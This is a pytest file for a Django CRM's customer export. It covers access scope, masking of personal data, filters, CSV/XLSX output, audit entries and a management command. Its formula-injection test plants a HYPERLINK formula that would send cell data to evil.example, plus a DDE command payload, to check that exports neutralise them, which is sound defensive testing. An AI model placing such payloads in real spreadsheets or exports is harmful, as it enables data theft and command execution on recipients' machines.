"""Customer export: permission, scope, masking, filters, formula injection, formats, audit,
the management command and the number of queries."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from django.core.management import CommandError, call_command
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from core.models import AuditLog
from core.tests.factories import UserFactory
from customers.exports import COLUMNS, customers_export, neutralise
from customers.models import Customer
from customers.tests.factories import CustomerFactory, TagFactory

pytestmark = pytest.mark.django_db

MOBILE = "13800138000"
EMAIL = "zhangsan@example.com"
URL = reverse("customers:export")


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx_rows(response) -> list[tuple]:
    body = b"".join(response.streaming_content)
    workbook = load_workbook(io.BytesIO(body), read_only=True)
    return list(workbook.active.iter_rows(values_only=True))


def _names(rows) -> set[str]:
    return {row[0] for row in rows[1:]}


def _user_with_perms(username: str, *codenames: str):
    user = UserFactory(username=username, language="en")
    user.user_permissions.add(
        *Permission.objects.filter(content_type__app_label="customers", codename__in=codenames)
    )
    return user


@pytest.fixture
def ledger(rep, other_rep, manager):
    return {
        "mine": CustomerFactory(name="张三", owner=rep, mobile=MOBILE, email=EMAIL),
        "managers": CustomerFactory(name="李四", owner=manager),
        "other": CustomerFactory(name="王五", owner=other_rep),
    }


# --- permission and scope ----------------------------------------------------------------


def test_rep_may_not_export(client, rep, ledger):
    client.force_login(rep)
    assert client.get(URL, {"format": "csv"}).status_code == 403
    assert not AuditLog.objects.filter(action=AuditLog.Action.EXPORT).exists()


def test_manager_exports_only_the_teams_customers(client, manager, ledger):
    client.force_login(manager)
    response = client.get(URL, {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="customers-')
    assert response["Content-Disposition"].endswith('.csv"')
    assert _names(_csv_rows(response)) == {"张三", "李四"}


def test_service_needs_the_export_permission(client, service, ledger):
    client.force_login(service)
    assert client.get(URL, {"format": "csv"}).status_code == 403

    service.user_permissions.add(Permission.objects.get(codename="export_customer"))
    response = client.get(URL, {"format": "csv"})
    assert response.status_code == 200
    assert _names(_csv_rows(response)) == {"张三", "李四", "王五"}


def test_unknown_format_is_a_bad_request(client, manager):
    client.force_login(manager)
    assert client.get(URL, {"format": "pdf"}).status_code == 400


def test_export_menu_shows_only_with_the_permission(client, rep, manager):
    client.force_login(rep)
    assert 'data-testid="export-menu"' not in client.get(reverse("customers:list")).content.decode()
    client.force_login(manager)
    page = client.get(reverse("customers:list"), {"lifecycle_stage": "new"}).content.decode()
    assert 'data-testid="export-menu"' in page
    assert f"{URL}?lifecycle_stage=new&amp;format=xlsx" in page


# --- masking -----------------------------------------------------------------------------


def test_personal_data_is_unmasked_with_view_sensitive(client, manager, ledger):
    client.force_login(manager)
    rows = _csv_rows(client.get(URL, {"format": "csv", "q": "张三"}))
    header, row = rows
    assert row[COLUMNS.index("mobile")] == MOBILE
    assert row[COLUMNS.index("email")] == EMAIL


def test_personal_data_is_masked_without_view_sensitive(client, ledger):
    user = _user_with_perms("exporter", "view_customer", "view_all_customers", "export_customer")
    client.force_login(user)
    rows = _csv_rows(client.get(URL, {"format": "csv", "q": "张三"}))
    header, row = rows
    assert row[COLUMNS.index("mobile")] == "138****8000"
    assert row[COLUMNS.index("email")] == "z***@example.com"
    assert MOBILE not in str(rows) and EMAIL not in str(rows)
    entry = AuditLog.objects.get(action=AuditLog.Action.EXPORT)
    assert entry.details["unmasked"] is False


# --- filters -----------------------------------------------------------------------------


def test_stage_filter_is_respected(client, manager, rep):
    CustomerFactory(name="新客", owner=rep, lifecycle_stage=Customer.LifecycleStage.NEW)
    CustomerFactory(name="老客", owner=rep, lifecycle_stage=Customer.LifecycleStage.EXISTING)
    client.force_login(manager)
    rows = _csv_rows(client.get(URL, {"format": "csv", "lifecycle_stage": "new"}))
    assert _names(rows) == {"新客"}


def test_search_and_private_search_token_are_respected(client, manager, ledger):
    client.force_login(manager)
    assert _names(_csv_rows(client.get(URL, {"format": "csv", "q": "李四"}))) == {"李四"}
    # The ledger turns a phone number typed into the search box into a qk token.
    location = client.post(reverse("customers:search"), {"q": MOBILE})["Location"]
    query = QueryDict(location.split("?", 1)[1])
    assert "qk" in query
    assert _names(_csv_rows(client.get(URL, {"format": "csv", "qk": query["qk"]}))) == {"张三"}


# --- content -----------------------------------------------------------------------------


def test_formulas_are_neutralised(client, manager, rep):
    CustomerFactory(
        name='=HYPERLINK("http://evil.example/?"&A1,"click")', owner=rep, company="+cmd|' /C calc'!A0"
    )
    client.force_login(manager)
    header, row = _csv_rows(client.get(URL, {"format": "csv"}))
    assert row[0] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row[COLUMNS.index("company")] == "'+cmd|' /C calc'!A0"
    header, row = _xlsx_rows(client.get(URL, {"format": "xlsx"}))
    assert row[0].startswith("'=")


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_neutralise_prefixes_dangerous_text(value):
    assert neutralise(value) == "'" + value


def test_neutralise_leaves_other_values():
    assert neutralise("张三") == "张三"
    assert neutralise(-5) == -5
    assert neutralise("") == ""


def test_csv_for_a_chinese_user_has_bom_and_chinese_headers(client, manager, ledger):
    manager.language = "zh-hans"
    manager.save(update_fields=["language"])
    client.force_login(manager)
    rows = _csv_rows(client.get(URL, {"format": "csv"}))
    assert rows[0][:5] == ["名称", rows[0][1], rows[0][2], "职务", "手机号"]
    assert "创建时间" in rows[0]


def test_xlsx_is_readable_with_the_right_rows(client, manager, rep):
    tags = [TagFactory(name="VIP客户")]
    CustomerFactory(name="赵六", owner=rep, mobile=MOBILE, city="上海", tags=tags)
    manager.language = "en"
    manager.save(update_fields=["language"])
    client.force_login(manager)
    response = client.get(URL, {"format": "xlsx"})
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].endswith('.xlsx"')
    header, *rows = _xlsx_rows(response)
    assert len(header) == 23
    assert header[0] == "name" and header[-1] == "total spend"
    (row,) = rows
    values = dict(zip(header, row, strict=True))
    assert values["name"] == "赵六"
    assert values["mobile phone"] == MOBILE
    assert values["city"] == "上海"
    assert values["tags"] == "VIP客户"
    assert values["owner"] == str(rep)
    assert values["team"] == "华东销售部"
    assert values["lifecycle stage"] == "Prospect"
    assert values["orders"] == 0


# --- audit -------------------------------------------------------------------------------


def test_audit_entry_without_personal_data(client, manager, ledger):
    client.force_login(manager)
    client.get(URL, {"format": "xlsx", "q": "张三", "lifecycle_stage": "prospect"})
    entry = AuditLog.objects.get(action=AuditLog.Action.EXPORT)
    assert entry.actor == manager
    assert entry.details["rows"] == 1
    assert entry.details["format"] == "xlsx"
    assert entry.details["unmasked"] is True
    assert "lifecycle_stage=prospect" in entry.details["query"]
    text = str(entry.details) + entry.object_repr
    for secret in ("张三", MOBILE, EMAIL):
        assert secret not in text


# --- queries -----------------------------------------------------------------------------


def _export_queries(user, fmt: str) -> int:
    with CaptureQueriesContext(connection) as ctx:
        customers_export(user=user, params=QueryDict(), fmt=fmt, out=io.BytesIO())
    return len(ctx.captured_queries)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_query_count_does_not_grow_with_the_rows(manager, rep, fmt):
    from core.models import User

    for i in range(3):
        CustomerFactory(name=f"客户{i}", owner=rep, tags=[TagFactory(name="华东")])
    few = _export_queries(User.objects.get(pk=manager.pk), fmt)
    for i in range(3, 20):
        CustomerFactory(name=f"客户{i}", owner=rep, tags=[TagFactory(name="华东")])
    many = _export_queries(User.objects.get(pk=manager.pk), fmt)
    # permissions, managed teams, the custom-field definitions, the customers (owner and team
    # joined), the audit insert.
    assert many == few
    assert many <= 7


# --- command -----------------------------------------------------------------------------


def test_command_exports_in_the_users_scope(manager, ledger, tmp_path):
    out_file = tmp_path / "customers.csv"
    stdout = io.StringIO()
    call_command(
        "export_customers", "--format", "csv", "--out", str(out_file), "--user", "manager", stdout=stdout
    )
    assert "Exported 2 customers" in stdout.getvalue()
    rows = list(csv.reader(io.StringIO(out_file.read_bytes().decode("utf-8-sig"))))
    assert _names(rows) == {"张三", "李四"}
    assert AuditLog.objects.get(action=AuditLog.Action.EXPORT).actor == manager


def test_command_xlsx_with_filters(manager, rep, tmp_path):
    CustomerFactory(name="新客", owner=rep, lifecycle_stage=Customer.LifecycleStage.NEW)
    CustomerFactory(name="老客", owner=rep, lifecycle_stage=Customer.LifecycleStage.EXISTING)
    out_file = tmp_path / "customers.xlsx"
    call_command(
        "export_customers",
        "--out",
        str(out_file),
        "--user",
        "manager",
        "--filters",
        "lifecycle_stage=new",
        stdout=io.StringIO(),
    )
    rows = list(load_workbook(out_file, read_only=True).active.iter_rows(values_only=True))
    assert _names(rows) == {"新客"}


def test_command_unknown_user_exits_with_status_2(tmp_path):
    out_file = tmp_path / "x.csv"
    with pytest.raises(CommandError) as exc:
        call_command("export_customers", "--out", str(out_file), "--user", "nobody")
    assert exc.value.returncode == 2
    assert not out_file.exists()


def test_command_requires_user_and_permission(rep, tmp_path):
    with pytest.raises(CommandError):
        call_command("export_customers", "--out", str(tmp_path / "x.csv"))
    with pytest.raises(CommandError) as exc:
        call_command("export_customers", "--out", str(tmp_path / "x.csv"), "--user", "rep")
    assert exc.value.returncode == 2


# --- background --------------------------------------------------------------------------


def test_a_long_ledger_is_exported_in_the_background(
    client, manager, ledger, settings, tmp_path, django_capture_on_commit_callbacks
):
    from core.models import ExportJob

    settings.EXPORT_SYNC_MAX_ROWS = 1
    settings.MEDIA_ROOT = tmp_path
    client.force_login(manager)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(URL, {"format": "xlsx", "lifecycle_stage": "prospect"})
    job = ExportJob.objects.get()
    assert response["Location"] == reverse("core:export_status", args=[job.pk])
    job.refresh_from_db()
    assert (job.kind, job.status, job.total_rows) == ("customers", ExportJob.Status.DONE, 2)
    response = client.get(reverse("core:export_download", args=[job.pk]))
    assert _names(_xlsx_rows(response)) == {"张三", "李四"}
    entry = AuditLog.objects.filter(action=AuditLog.Action.EXPORT, details__background=True).get()
    assert entry.details["unmasked"] is True and entry.details["rows"] == 2
